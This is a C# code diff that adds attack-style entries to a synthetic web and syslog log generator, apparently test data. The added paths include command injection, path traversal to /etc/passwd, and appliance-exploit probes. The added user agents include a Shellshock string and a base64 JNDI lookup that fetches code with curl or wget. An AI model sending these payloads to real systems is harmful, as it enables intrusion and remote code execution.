@@ -46,14 +46,19 @@ public static class OrdinaryMonth
     public static IEnumerable<string> OtherProducts(int seed)
     {
         var random = new Random(seed);
-        string[] paths = ["/index.php?page=2", "/wp-login.php", "/owa/auth/logon.aspx", "/api/v1/items?q=a%20b", "/remote/login?lang=nl", "/dana-na/auth/url_default/welcome.cgi", "/static/..%20x.js", "/caf%C3%A9/menu", "/vpn-client/download.html", "/.well-known/acme-challenge/x"];
+        string[] paths = ["/index.php?page=2", "/wp-login.php", "/owa/auth/logon.aspx", "/api/v1/items?q=a%20b", "/remote/login?lang=nl", "/dana-na/auth/url_default/welcome.cgi", "/static/..%20x.js", "/caf%C3%A9/menu", "/vpn-client/download.html", "/.well-known/acme-challenge/x",
+
+            // what is tried on other products
+            "/index.php?login=$(echo${IFS}x)", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", "/public/plugins/grafana/../../../../../etc/passwd", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/x", "/php/utils/x.php/watchTowr.js.map", "/?a=%24%7BIFS%7D",
+            "/solr/admin/info?q=$%7Bx%7D", "/actuator/gateway/routes", "/boaform/admin/formLogin?a=;fetch+x", "/cgi-bin/luci/;stok=/locale?country=$(id%3E%60)"];
+        string[] agents = ["Mozilla/5.0 (X11; Linux x86_64)", "x:lookup/Basic/Command/Base64/KGN1cmwgLXMgMTkyLjAuMi4xL2F8fHdnZXQgLXEgMTkyLjAuMi4xL2Ep", "curl/8.5.0", "Go-http-client/1.1", "() { :; }; /usr/bin/id", "python-requests/2.31"];
         return Enumerable.Range(0, 3000).Select(i =>
         {
             var time = new DateTimeOffset(2026, 3, 1, 0, 0, 0, TimeSpan.Zero).AddMinutes(i * 13);
             var client = "198.51.100." + random.Next(20, 250).ToString(CultureInfo.InvariantCulture);
             return (i % 5) switch
             {
-                0 or 1 => $"{client} - - [{Stamps.Access(time)}] \"{(random.Next(3) == 0 ? "POST" : "GET")} {paths[random.Next(paths.Length)]} HTTP/1.1\" {(random.Next(4) == 0 ? 404 : 200)} {random.Next(9999)} \"https://www.example/\" \"Mozilla/5.0 (X11; Linux x86_64)\"",
+                0 or 1 => $"{client} - - [{Stamps.Access(time)}] \"{(random.Next(3) == 0 ? "POST" : "GET")} {paths[random.Next(paths.Length)]} HTTP/1.1\" {(random.Next(4) == 0 ? 404 : 200)} {random.Next(9999)} \"https://www.example/\" \"{agents[random.Next(agents.Length)]}\"",
                 2 => $"{Stamps.Syslog(time)} web01 sshd[{random.Next(9999)}]: Failed password for root from {client} port 4022 ssh2",
                 3 => $"{Stamps.Syslog(time)} mail01 postfix/smtpd[{random.Next(9999)}]: connect from unknown[{client}]",
                 _ => $"{Stamps.Syslog(time)} web01 systemd[1]: Started Session {i} of user backup.",
